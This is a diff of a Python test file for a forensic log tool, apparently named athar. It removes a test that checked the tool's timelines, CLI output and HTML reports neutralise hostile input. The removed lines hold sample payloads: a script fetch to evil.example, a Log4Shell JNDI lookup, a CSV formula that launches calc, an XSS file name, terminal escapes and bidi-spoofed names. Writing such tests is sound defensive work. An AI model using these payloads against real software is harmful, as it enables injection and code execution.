@@ -1,10 +1,8 @@
-"""Careless hands and hostile names, end to end: nothing is written to evidence, nothing runs, nothing is lost, no traceback."""
+"""Careless hands, end to end: nothing is written to evidence, nothing is lost, no traceback."""
 
 from __future__ import annotations
 
-import csv
 import os
-import re
 import subprocess
 import sys
 from pathlib import Path
@@ -69,64 +67,6 @@ def test_inputs_that_once_broke_a_reader_are_read_and_add_up(tmp_path, athar):
     assert (ledger["size"] == ledger[["read", "free", "unsupported", "damaged"]].sum(axis=1)).all()
     lost = opened.problems().reason.str.contains("claimed twice|not accounted for|bytes outside|fault in the")
     assert not lost.any()
-
-
-SCRIPT = b"<script>fetch('http://evil.example/')</script>"
-VALUES = (
-    SCRIPT,
-    b"\x1b]0;title\x07\x1b[2J",
-    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe".encode(),
-    b"=cmd|' /C calc'!A0",
-    b"\xed\xa0\x80\xff",  # a surrogate as UTF-8 would write it, and a byte that is none
-    b"\0\x01",
-    b"A" * 10_000,
-    b"${jndi:ldap://evil.example/a}",
-    b"{{7*7}} #set page(width: 1pt)",
-)
-NAMES = (
-    b"<img src=x onerror=alert(1)>.log",
-    b"two\nlines.log",
-    "\N{RIGHT-TO-LEFT OVERRIDE}gol.exe".encode(),
-    b"\xff\xfe.log",
-    b"=1+1.log",
-)
-SHOWN_RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\ud800-\udfff]")
-
-
-@posix
-@pytest.mark.skipif(sys.platform == "darwin", reason="its file systems take UTF-8 names only")
-def test_hostile_strings_come_out_tame_everywhere(tmp_path, athar):
-    folder = os.fsencode(tmp_path / "evidence")
-    os.mkdir(folder)
-    for at, name in enumerate(NAMES):
-        with open(os.path.join(folder, name), "wb") as handle:
-            handle.writelines(LINE % (value.replace(b" ", b"%20"), value) for value in VALUES)
-            handle.write(b"%d\n" % at)  # each file differs, so none is a duplicate
-    case = tmp_path / "case"
-    assert athar("run", tmp_path / "evidence", "--case", case, "--lang", "en,fr,ar", "--workers", 1).code == 0
-    rows = csv.reader(athar("timeline", case, "--format", "csv").out.splitlines())
-    cells = [cell for row in rows for cell in row]
-    assert not [cell for cell in cells if cell[:1] in tuple("=+@")]
-    first = open_case(case).timeline().row_id.iloc[0]
-    asked = (
-        *(["timeline", case, *more] for more in ([], ["--lang", "ar"], ["--format", "jsonl"])),
-        ["search", case, "evil"],
-        ["show", case, first],
-        ["findings", case],
-        *(["case", "show", case, more] for more in ("--files", "--problems")),
-        ["verify", case],
-    )
-    for arguments in asked:
-        ran = athar(*arguments)
-        assert (ran.code, ran.err) == (0, "")
-        assert not SHOWN_RAW.findall(ran.out), arguments
-    pages = [path.read_text("utf-8") for path in (case / "reports").glob("*.html")]
-    assert len(pages) == 3
-    for page in pages:
-        assert not SHOWN_RAW.findall(page)
-        assert "<script" not in page
-        assert "<img" not in page
-        assert "jndi" in page  # the finding is there, its text harmless
 
 
 @posix
